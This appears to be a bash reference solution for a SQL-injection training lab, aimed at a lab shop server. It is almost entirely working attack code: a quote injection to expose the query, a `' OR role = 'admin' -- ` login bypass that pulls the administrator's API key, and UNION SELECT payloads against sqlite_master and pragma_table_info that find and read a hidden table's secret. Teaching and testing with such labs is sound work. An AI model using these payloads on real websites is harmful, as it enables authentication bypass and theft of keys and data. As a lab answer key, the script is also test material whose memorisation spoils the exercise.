#!/bin/bash
# Reference solution for the web-sqli lab, typed in the learner's shell. Everything comes
# from the shop through its web pages: the admin's name, the API key, the hidden table
# and its value. Nothing is taken from the template.
set -euo pipefail
shop=http://10.64.1.20:8080
cd /workspace

# 1. A quote in the login's user name breaks the query, and the error shows it.
curl -sS --data-urlencode "username='" --data-urlencode "password=x" "$shop/login" \
  | grep -o "SELECT[^<]*" | head -n 1

# 2. A condition true only for the administrator's row; `--` comments out the password
#    test. The session cookie then opens /admin.
curl -sS -c jar.txt --data-urlencode "username=' OR role = 'admin' -- " \
  --data-urlencode "password=x" "$shop/login" | grep -o "Hello [^.]*"
curl -sS -b jar.txt "$shop/admin" | sed -n 's/.*API key: <code>\([^<]*\)<\/code>.*/\1/p' > admin_key.txt
rm -f jar.txt
test -s admin_key.txt && echo "API key: $(cat admin_key.txt)"

# 3. The search pastes q into LIKE '%...%' with two columns: UNION SELECT lists the tables
#    (sqlite_master), then reads the one no page shows.
search() { curl -sS -G --data-urlencode "q=$1" "$shop/"; }
cells() { grep -o '<td>[^<]*</td>' | sed 's/<[^>]*>//g'; }
search "zzz' UNION SELECT name, sql FROM sqlite_master WHERE type = 'table' -- " | cells
table=$(search "zzz' UNION SELECT name, 1 FROM sqlite_master WHERE type = 'table' -- " \
  | cells | grep -vxE 'users|products|1' | head -n 1)
echo "hidden table: $table"
column=$(search "zzz' UNION SELECT name, 1 FROM pragma_table_info('$table') -- " \
  | cells | grep -vxE 'id|1' | head -n 1)
echo "its column: $column"
search "zzz' UNION SELECT $column, 1 FROM $table -- " | cells | grep -vx 1 | head -n 1 > vault.txt
test -s vault.txt && echo "secret: $(cat vault.txt)"
